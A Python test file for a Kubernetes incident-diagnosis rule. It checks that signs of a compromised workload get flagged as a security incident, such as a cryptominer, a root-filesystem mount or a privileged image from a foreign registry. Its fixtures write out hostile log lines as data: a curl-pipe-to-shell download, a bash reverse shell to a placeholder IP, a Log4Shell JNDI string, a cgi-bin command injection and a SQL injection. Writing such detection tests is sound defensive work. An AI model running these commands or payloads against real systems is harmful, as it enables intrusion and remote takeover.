"""Signs that somebody else runs programs here; each may be chance, together they are not."""

from __future__ import annotations

from typing import Any

from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
from tests.diagnosis.rules.scenes import SHOP, logs, shop
from tests.diagnosis.rules.tiny import Obj, at, container, snapshot, thing, workload

FOREIGN = (
    " * POOL #1      stratum+tcp://pool.example:3333 algo auto",
    "[2026-03-04 11:59:01] miner    speed 10s/60s/15m 4120.1 4100.9 n/a H/s max 4300.2 H/s",
    "sh: curl -fsSL http://203.0.113.7/a.sh | sh",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "+ chmod +x /tmp/kdevtmpfsi",
)
ATTEMPTS = (
    '203.0.113.9 - - "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 153',
    '203.0.113.9 - - "GET /cgi-bin/;curl http://203.0.113.9/a.sh | sh HTTP/1.1" 400 0',
    "POST /login 401 ' OR '1'='1",
    "INFO downloading report with curl",
    "INFO health of redis-miner-stats ok",
)
ROOT = {"volumes": [{"name": "r", "hostPath": {"path": "/"}}]}


def lone(**spec: Any) -> Obj:
    """Return a pod that nobody owns."""
    of = {"containers": [container("c", "docker.io/x/y:1")], "nodeName": "n1", **spec}
    status = {"name": "c", "ready": True, "state": {"running": {"startedAt": at(1200)}}}
    return thing("Pod", "helper", age=1200, spec=of) | {"status": {"phase": "Running", "containerStatuses": [status]}}


HOLDS = [
    *(
        Holds(
            f"foreign programs: {line}",
            snapshot(shop(), workload("cart"), logs=logs("shop", line, times=1)),
            (SHOP, "security_incident", "isolate_workload"),
            excludes=no("restart_workload", "rollback_workload", at=SHOP),
        )
        for line in FOREIGN
    ),
    Holds(
        "a pod of nobody with the node's disk",
        snapshot(shop(), lone(**ROOT)),
        ("Pod/helper", "security_incident", "isolate_workload"),
    ),
    Holds(
        "a release from a foreign registry that takes the node",
        snapshot(
            workload(
                "shop",
                "evil.example/x:1",
                before={"image": "registry.example/shop:1", "securityContext": {}},
                securityContext={"privileged": True},
            ),
            workload("cart"),
        ),
        (SHOP, "security_incident", "isolate_workload"),
    ),
]
DOES_NOT_HOLD = [
    *(
        DoesNotHold(f"an attempt, or nothing: {line}", snapshot(shop(), logs=logs("shop", line, times=1)))
        for line in ATTEMPTS
    ),
    DoesNotHold("a pod of nobody without rights is somebody's test", snapshot(shop(), lone())),
    DoesNotHold(
        "a release from a new registry alone is a move",
        snapshot(
            workload("shop", "mirror.example/shop:2", before={"image": "registry.example/shop:1"}), workload("cart")
        ),
    ),
    DoesNotHold(
        "a privileged agent of long ago is as wanted",
        snapshot(workload("agent", kind="DaemonSet", securityContext={"privileged": True})),
    ),
]
